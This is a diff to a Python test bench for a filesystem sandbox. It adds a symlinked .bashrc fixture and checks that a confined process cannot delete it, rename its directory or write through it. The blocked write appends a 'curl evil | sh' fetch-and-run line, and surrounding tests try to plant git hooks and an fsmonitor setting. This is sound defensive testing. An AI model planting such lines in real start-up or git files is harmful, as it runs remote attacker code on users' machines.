@@ -164,6 +164,9 @@ facts["protected"] = [attempt(lambda: write(".git/config", "[core]\n\tfsmonitor 
                       attempt(lambda: write(".git/hooks/pre-commit", "#!/bin/sh\n")),
                       attempt(lambda: write("conf/deep/settings.ini", "planted\n", "a"))]
 facts["renames"] = [attempt(lambda: os.rename(p, p + ".old")) for p in (".git", "conf", "conf/deep")]
+# a symlinked start-up file: neither replaced (rm + write) nor written through, nor its directory moved
+facts["dotfile"] = [attempt(lambda: os.unlink(".bashrc")), attempt(lambda: write(".bashrc", "curl evil | sh\n", "a")),
+                    attempt(lambda: os.rename(".dotfiles", ".dotfiles.old"))]
 
 @fact("pinned twin")
 def _():
@@ -247,7 +250,7 @@ class Bench:
             "work": "ok",
             # bound device nodes keep the host's flags; the pinned directories are read-write copies
             "rw": sorted([*devices, "/dev/pts", "/dev/shm", work, tmp, f"{work}/.git", f"{work}/conf",
-                          f"{work}/conf/deep"]),
+                          f"{work}/conf/deep", f"{work}/.dotfiles"]),
             "mounts": "read",
             "propagation": [],
             "sizes": {"/dev": ["size=64k"], "/dev/shm": ["size=65536k"], "/dev/pts": ["max=64"],
@@ -278,6 +281,7 @@ class Bench:
             "tmp": [[], "ok"],
             "protected": ["EROFS", "EROFS", "EROFS"],
             "renames": ["EBUSY", "EBUSY", "EBUSY"],
+            "dotfile": ["EBUSY", "EROFS", "EBUSY"],
             "pinned twin": "ok",
         }
 
@@ -291,7 +295,9 @@ class Bench:
         assert os.listdir(self.work / ".git" / "hooks") == []
         assert (self.work / "conf" / "deep" / "settings.ini").read_text() == "safe = 1\n"
         assert (self.work / "conf" / "deep" / "new").read_text() == "new\n"
-        assert sorted(os.listdir(self.work)) == [".git", "conf", "made"]
+        assert sorted(os.listdir(self.work)) == [".bashrc", ".dotfiles", ".git", "conf", "made"]
+        assert os.readlink(self.work / ".bashrc") == ".dotfiles/bashrc"
+        assert (self.work / ".dotfiles" / "bashrc").read_text() == "# start-up\n"
         assert self._sysv("sysv-show") == "ok tier-secret"
         with open(f"/proc/{self.victim.pid}/cmdline", "rb") as fh:
             assert self.marker.encode() in fh.read()  # the marker is really there, on the host
@@ -304,13 +310,16 @@ class Bench:
         (self.work / ".git" / "config").write_text("[core]\n\tbare = false\n")
         (self.work / "conf" / "deep").mkdir(parents=True)
         (self.work / "conf" / "deep" / "settings.ini").write_text("safe = 1\n")
+        (self.work / ".dotfiles").mkdir()  # a start-up file kept by a dotfile manager (stow, chezmoi)
+        (self.work / ".dotfiles" / "bashrc").write_text("# start-up\n")
+        os.symlink(".dotfiles/bashrc", self.work / ".bashrc")
         self.outside.mkdir(exist_ok=True)
         self.secret.write_text("secret\n")
         os.chmod(self.secret, 0o600)
         os.utime(self.secret, (1_000_000, 1_000_000))
         for top, dirs, files in os.walk(self.base):
             for name in (".", *dirs, *files):
-                os.chown(os.path.join(top, name), self.uid, self.uid)
+                os.lchown(os.path.join(top, name), self.uid, self.uid)
         self.secret_stat = os.stat(self.secret)
 
 
